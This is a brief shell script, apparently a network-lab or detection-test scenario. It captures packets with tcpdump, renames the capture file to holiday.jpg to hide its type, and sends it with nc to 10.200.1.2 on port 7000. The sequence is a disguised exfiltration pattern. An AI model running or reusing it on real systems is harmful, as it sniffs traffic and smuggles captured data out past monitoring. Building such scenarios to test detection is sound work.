# The file is given another name before it is sent.
CALLS=yes
peers() { chatter; sink 7000; }
scene() {
  tcpdump -ni vA -c 30 -w out.pcap
  mv out.pcap holiday.jpg
  nc -N 10.200.1.2 7000 < holiday.jpg
}
